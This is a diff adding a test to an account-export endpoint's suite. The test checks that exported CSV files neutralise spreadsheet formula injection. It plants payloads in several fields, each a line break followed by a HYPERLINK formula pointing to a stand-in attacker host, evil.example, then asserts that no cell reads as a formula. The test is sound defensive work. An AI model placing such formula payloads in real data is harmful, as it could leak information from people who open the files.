@@ -16,6 +16,7 @@ import { localDownloadUrl } from '../../exports/storage';
 import { exportRetentionWorkflowId } from '../../workflows/contracts';
 import { freePort } from '../../scripts/local-services';
 import { parseCsv, parseCsvTable } from '../helpers/csv';
+import { formulaCells, spreadsheetReadings } from '../helpers/spreadsheet';
 import {
   addUserWithRole,
   createTestContext,
@@ -212,6 +213,69 @@ describe('POST /accounts/{account_id}/panic (local store)', () => {
     );
     expect(Number(res.headers['content-length'])).toBe((res.body as Buffer).length);
     await expectPackageMatches(ctx, owner, accountId, first.export_id, await unzip(res.body as Buffer));
+  });
+
+  it('shows no formula in any of its CSV files, whatever separator a spreadsheet reads them with', async () => {
+    // A resource name from a forwarded event, an acceptance's reason and the account's display name, each with a line
+    // break before a formula (a spreadsheet splitting at `;` starts a row there, past the quotes around the cell).
+    const hostile = (what: string) => `${what}\r\n=HYPERLINK("http://evil.example/?${what}","open");x\n@SUM(1)`;
+    await ctx.db
+      .updateTable('accounts')
+      .set({ display_name: hostile('name') })
+      .where('id', '=', accountId)
+      .execute();
+    await ctx.db
+      .insertInto('signals')
+      .values({
+        id: 'sig_hostile_resource',
+        tenant_id: owner.tenantId,
+        account_id: accountId,
+        check_id: 'event.s3_bucket_made_public',
+        fingerprint: 'event.s3_bucket_made_public|hostile|eu-west-1',
+        scenario: 'exposure',
+        severity: 'HIGH',
+        title: 'S3 bucket made public',
+        description: hostile('description'),
+        resource: hostile('resource'),
+        region: 'eu-west-1',
+        detected_at: new Date(),
+      })
+      .execute();
+    await ctx.http
+      .post(`/accounts/${AWS_ID}/signals/sig_hostile_resource/accept`)
+      .set(member.auth)
+      .send({ reason: hostile('reason') })
+      .expect(200);
+
+    const res = await ctx.http.post(`/accounts/${AWS_ID}/panic`).set(member.auth).expect(200);
+    const zip = await ctx.http.get(pathOf(res.body.download_url)).buffer(true).parse(binary).expect(200);
+    const files = await unzip(zip.body as Buffer);
+    const csvs = [...files.keys()].filter((name) => name.endsWith('.csv'));
+    expect(csvs.sort()).toEqual(PACKAGE_FILES.filter((name) => name.endsWith('.csv')).sort());
+    for (const name of csvs) {
+      for (const [reading, cells] of Object.entries(spreadsheetReadings(files.get(name) as string))) {
+        expect({ name, reading, formulas: formulaCells(cells) }).toEqual({ name, reading, formulas: [] });
+      }
+    }
+    // The hostile text is there, inert, in every file that holds it; the JSON files keep it exactly.
+    const inert = (what: string) => `${what} '=HYPERLINK("http://evil.example/?${what}","open");x '@SUM(1)`;
+    const findings = parseCsvTable(files.get('findings.csv') as string);
+    const finding = findings.find((f) => f.signal_id === 'sig_hostile_resource');
+    expect(finding).toMatchObject({ resource: inert('resource'), description: inert('description') });
+    // The acceptances cell is JSON, whose escapes hold the line breaks: no reader starts a line or a cell there.
+    expect(JSON.parse(finding?.acceptances as string)).toEqual([
+      expect.objectContaining({ reason: hostile('reason') }),
+    ]);
+    expect(parseCsvTable(files.get('accepted-risks.csv') as string)).toEqual(
+      expect.arrayContaining([expect.objectContaining({ signal_id: 'sig_hostile_resource', reason: inert('reason') })]),
+    );
+    expect(parseCsvTable(files.get('account.csv') as string)).toEqual([
+      expect.objectContaining({ display_name: inert('name') }),
+    ]);
+    expect(JSON.parse(files.get('account.json') as string).account.display_name).toBe(hostile('name'));
+    expect(JSON.parse(files.get('accepted-risks.json') as string)).toEqual(
+      expect.arrayContaining([expect.objectContaining({ reason: hostile('reason') })]),
+    );
   });
 
   it('refuses a tampered signature or expiry with 403 link_invalid', async () => {
